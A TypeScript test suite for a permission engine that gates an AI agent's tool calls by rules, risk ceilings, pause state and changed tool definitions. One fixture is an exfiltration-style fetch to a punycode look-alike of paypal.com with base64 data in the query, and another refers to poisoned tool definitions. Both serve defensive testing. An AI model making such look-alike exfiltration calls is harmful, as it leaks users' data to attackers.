import { describe, it, expect } from 'vitest';
import type { RiskAssessment, RiskLevel, Rule, ToolDefinition } from '../contract/types';
import { decide, isReadOnly, type DecideInput } from './decide';
import type { PathEnv } from './paths';
import { assessRisk } from './risk';
import { validateRule } from './rules';

const env: PathEnv = { home: '/home/u', cwd: '/home/u/project', caseInsensitive: false, sep: '/' };
const NOW = 1_700_000_000_000;

const READ_FILE: ToolDefinition = {
  name: 'read_file',
  annotations: { readOnlyHint: true, openWorldHint: false },
};
const WRITE_FILE: ToolDefinition = {
  name: 'write_file',
  annotations: { readOnlyHint: false, destructiveHint: true, openWorldHint: false },
};

function risk(level: RiskLevel): RiskAssessment {
  return {
    level,
    reasons: level === 'low' ? [] : [{ code: 'x', level, text: `A ${level} reason.` }],
  };
}

let nextId = 100;
function rule(partial: Partial<Rule>): Rule {
  return {
    id: nextId++,
    serverId: null,
    tool: '*',
    conditions: [],
    action: 'allow',
    expiry: { kind: 'forever' },
    riskCeiling: null,
    note: '',
    origin: 'manual',
    enabled: true,
    createdAt: NOW - 1,
    ...partial,
  };
}

function input(
  over: Partial<DecideInput> & {
    def?: ToolDefinition;
    toolName?: string;
    changed?: boolean;
    enabled?: boolean;
  },
): DecideInput {
  const def = over.def ?? READ_FILE;
  const name = over.toolName ?? def.name;
  return {
    call: {
      serverId: 1,
      sessionId: 's1',
      tool: name,
      arguments: { path: '/home/u/project/a.txt' },
    },
    tool: {
      definition: def,
      isNew: false,
      changed: over.changed ?? false,
      poison: [],
      enabled: over.enabled ?? true,
    },
    rules: over.rules ?? [],
    mode: over.mode ?? 'ask',
    paused: over.paused ?? false,
    risk: over.risk ?? risk('low'),
    now: NOW,
    env,
  };
}

const allowWrite = rule({ id: 1, action: 'allow', tool: 'write_file' });
const allowWriteLow = rule({ id: 2, action: 'allow', tool: 'write_file', riskCeiling: 'low' });
const askAll = rule({ id: 3, action: 'ask', tool: '*' });
const denyWrite = rule({ id: 4, action: 'deny', tool: 'write_*' });
const allowInProject = rule({
  id: 5,
  action: 'allow',
  tool: 'write_file',
  riskCeiling: 'medium',
  conditions: [{ path: 'path', op: 'under', value: '/home/u/project' }],
});

describe('decide', () => {
  it.each<[string, Parameters<typeof input>[0], string, string | null, number | null]>([
    ['read-only and low risk: allowed by policy', {}, 'allow', 'auto-approved', null],
    ['read-only but medium risk: asks', { risk: risk('medium') }, 'ask', null, null],
    ['writes, no rule: asks', { def: WRITE_FILE, risk: risk('medium') }, 'ask', null, null],
    ['writes at low risk, no rule: still asks', { def: WRITE_FILE }, 'ask', null, null],
    [
      'allow rule',
      { def: WRITE_FILE, risk: risk('medium'), rules: [allowWrite] },
      'allow',
      'auto-approved',
      1,
    ],
    [
      'allow rule with a path condition',
      { def: WRITE_FILE, risk: risk('medium'), rules: [allowInProject] },
      'allow',
      'auto-approved',
      5,
    ],
    [
      'allow rule over its ceiling: asks',
      { def: WRITE_FILE, risk: risk('medium'), rules: [allowWriteLow] },
      'ask',
      null,
      null,
    ],
    [
      'the narrow rule with a ceiling speaks, not the broad one',
      { def: WRITE_FILE, risk: risk('high'), rules: [allowWrite, allowInProject] },
      'ask',
      null,
      null,
    ],
    [
      'allow rule suspended by a changed definition',
      { def: WRITE_FILE, risk: risk('high'), rules: [allowWrite], changed: true },
      'ask',
      null,
      null,
    ],
    ['changed read-only tool at low risk: asks', { changed: true }, 'ask', null, null],
    ['ask rule beats allow rule', { def: WRITE_FILE, rules: [allowWrite, askAll] }, 'ask', null, 3],
    ['ask rule even for a read-only low-risk call', { rules: [askAll] }, 'ask', null, 3],
    [
      'deny rule beats everything below it',
      { def: WRITE_FILE, rules: [allowWrite, askAll, denyWrite] },
      'deny',
      'auto-denied',
      4,
    ],
    [
      'deny rule beats critical risk',
      { def: WRITE_FILE, risk: risk('critical'), rules: [denyWrite] },
      'deny',
      'auto-denied',
      4,
    ],
    [
      'critical always asks, whatever the allow rules',
      { def: WRITE_FILE, risk: risk('critical'), rules: [allowWrite] },
      'ask',
      null,
      null,
    ],
    ['critical asks even for a read-only tool', { risk: risk('critical') }, 'ask', null, null],
    ['disabled tool: denied', { enabled: false, rules: [allowWrite] }, 'deny', 'auto-denied', null],
    ['paused: denied', { paused: true }, 'deny', 'auto-denied', null],
    [
      'paused beats an allow rule',
      { def: WRITE_FILE, paused: true, rules: [allowWrite] },
      'deny',
      'auto-denied',
      null,
    ],
    [
      'expired allow rule does not match',
      {
        def: WRITE_FILE,
        rules: [rule({ id: 6, tool: 'write_file', expiry: { kind: 'until', at: NOW - 1 } })],
      },
      'ask',
      null,
      null,
    ],
    [
      'readOnlyHint cannot whitewash a destructive name',
      { def: { name: 'delete_file', annotations: { readOnlyHint: true } } },
      'ask',
      null,
      null,
    ],
  ])('%s', (_label, over, verdict, kind, ruleId) => {
    const decision = decide(input(over));
    expect(decision.verdict).toBe(verdict);
    expect(decision.kind).toBe(kind);
    expect(decision.ruleId).toBe(ruleId);
    expect(decision.reasons.length).toBeGreaterThan(0);
    expect(decision.wouldHave).toBeUndefined();
  });

  it('explains a suspended rule and an exceeded ceiling', () => {
    expect(
      decide(input({ def: WRITE_FILE, rules: [allowWrite], changed: true, risk: risk('high') }))
        .reasons[0],
    ).toBe('Rule 1 is suspended until the changed tool definition is reviewed.');
    expect(
      decide(input({ def: WRITE_FILE, rules: [allowWriteLow], risk: risk('high') })).reasons[0],
    ).toBe('Rule 2 allows up to low risk; this call is high.');
  });
});

describe('decide in observe mode', () => {
  it.each<[string, Parameters<typeof input>[0], string, number | null]>([
    ['would have asked', { def: WRITE_FILE, risk: risk('medium') }, 'ask', null],
    ['would have denied by rule', { def: WRITE_FILE, rules: [denyWrite] }, 'deny', 4],
    ['would have allowed by rule', { def: WRITE_FILE, rules: [allowWrite] }, 'allow', 1],
    ['would have asked at critical', { risk: risk('critical') }, 'ask', null],
  ])('allows and records what %s', (_label, over, wouldHave, ruleId) => {
    const decision = decide(input({ ...over, mode: 'observe' }));
    expect(decision).toMatchObject({ verdict: 'allow', kind: 'observed', wouldHave, ruleId });
  });

  it('still honours the pause switch and a switched-off tool', () => {
    expect(decide(input({ mode: 'observe', paused: true }))).toMatchObject({
      verdict: 'deny',
      kind: 'auto-denied',
    });
    expect(decide(input({ mode: 'observe', enabled: false }))).toMatchObject({
      verdict: 'deny',
      kind: 'auto-denied',
    });
  });
});

describe('isReadOnly', () => {
  const st = (definition: ToolDefinition | null) => ({
    definition,
    isNew: false,
    changed: false,
    poison: [],
  });
  it.each<[string, ToolDefinition | null, boolean]>([
    ['read_file', READ_FILE, true],
    ['slack_list_channels', { name: 'slack_list_channels' }, true],
    ['getUserProfile', null, true],
    ['directory_tree', { name: 'directory_tree', annotations: { readOnlyHint: true } }, true],
    ['write_file', WRITE_FILE, false],
    ['get_and_delete', { name: 'get_and_delete', annotations: { readOnlyHint: true } }, false],
    ['process_data', { name: 'process_data' }, false],
    ['send_list', { name: 'send_list' }, false],
  ])('%s → %s', (name, def, expected) => {
    expect(isReadOnly(name, st(def))).toBe(expected);
  });
});

describe('allow rules carry a risk ceiling unless "any risk" is chosen', () => {
  // A look-alike of paypal.com, carrying a base64 blob out in its query string.
  const exfil = {
    url: 'https://xn--pypal-4ve.com/collect?d=Zm9vYmFyQmF6UXV4MTIzNDU2Nzg5MGFiY2RlZkdISUpLTE1OT1A',
  };
  const fetchTool: ToolDefinition = { name: 'fetch', annotations: { openWorldHint: true } };
  const state = { definition: fetchTool, isNew: false, changed: false, poison: [] };
  const riskOf = assessRisk({ tool: 'fetch', arguments: exfil }, state, {
    roots: [],
    env,
    readSensitiveEarlier: false,
    knownDomains: [],
  });

  function fetchDecision(draft: Record<string, unknown>) {
    const checked = validateRule({ tool: 'fetch', ...draft });
    if (!checked.ok) throw new Error(checked.error);
    const saved: Rule = { ...checked.rule, id: 7, createdAt: NOW - 1 };
    return decide({
      ...input({ def: fetchTool }),
      call: { serverId: 1, sessionId: 's1', tool: 'fetch', arguments: exfil },
      rules: [saved],
      risk: riskOf,
    });
  }

  it('a plain fetch allow rule stops at medium: the HIGH punycode + base64 call asks', () => {
    expect(riskOf.level).toBe('high');
    expect(riskOf.reasons.map((r) => r.code)).toEqual(
      expect.arrayContaining(['url.punycode', 'secret.entropy']),
    );
    const decision = fetchDecision({ action: 'allow' });
    expect(decision.verdict).toBe('ask');
    expect(decision.reasons[0]).toBe('Rule 7 allows up to medium risk; this call is high.');
  });

  it('"any risk" is an explicit null, and then the same call is allowed', () => {
    expect(fetchDecision({ action: 'allow', riskCeiling: null }).verdict).toBe('allow');
    expect(fetchDecision({ action: 'allow', riskCeiling: 'high' }).verdict).toBe('allow');
  });

  it('ask and deny rules get no ceiling', () => {
    const checked = validateRule({ tool: 'fetch', action: 'deny' });
    expect(checked.ok && checked.rule.riskCeiling).toBeNull();
  });
});

describe('a path an allow rule cannot judge', () => {
  it('asks, and says which rule could not judge which path and why', () => {
    const allow = rule({
      id: 42,
      tool: 'write_file',
      conditions: [{ path: 'path', op: 'under', value: '/p/project' }],
    });
    const decision = decide({
      ...input({ def: WRITE_FILE }),
      call: { serverId: 1, sessionId: 's1', tool: 'write_file', arguments: { path: 'rel.txt' } },
      rules: [allow],
      risk: risk('low'),
    });
    expect(decision.verdict).toBe('ask');
    expect(decision.reasons).toEqual([
      `Rule 42 does not apply: it cannot judge the path "rel.txt" (it is relative, so it depends on the server's directory).`,
      'Nothing says this tool only reads, so a person decides.',
    ]);
  });
});

describe('why a call asks', () => {
  it('names the strongest risk reason of a high or medium call, not "not read-only"', () => {
    const high: RiskAssessment = {
      level: 'high',
      reasons: [
        { code: 'tool.poisoned', level: 'high', text: 'The tool looks poisoned: it hides orders.' },
        { code: 'annotation.none', level: 'medium', text: 'The server declares no annotations.' },
      ],
    };
    const decision = decide(input({ def: { name: 'add_numbers' }, risk: high }));
    expect(decision.verdict).toBe('ask');
    expect(decision.reasons).toEqual([
      'High risk, so a person decides: The tool looks poisoned: it hides orders.',
    ]);
    expect(decide(input({ def: WRITE_FILE, risk: risk('medium') })).reasons).toEqual([
      'Medium risk, so a person decides: A medium reason.',
    ]);
  });

  it('says nothing marks a low-risk writer as read-only', () => {
    expect(decide(input({ def: WRITE_FILE, risk: risk('low') })).reasons).toEqual([
      'Nothing says this tool only reads, so a person decides.',
    ]);
  });
});
